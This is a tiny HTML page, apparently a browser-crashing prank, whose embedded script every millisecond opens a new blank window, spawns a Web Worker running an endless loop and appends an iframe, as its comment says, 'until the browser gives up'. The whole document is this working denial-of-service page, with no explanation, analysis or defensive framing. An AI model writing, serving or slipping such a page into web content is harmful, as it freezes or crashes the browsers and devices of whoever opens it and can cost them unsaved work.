<!-- Open windows and workers until the browser gives up. -->
<html><head><title>x</title><script>
const work = URL.createObjectURL(new Blob(["for (;;);"]));
setInterval(() => { window.open("about:blank"); new Worker(work); document.body.append(document.createElement("iframe")); }, 1);
</script></head><body></body>
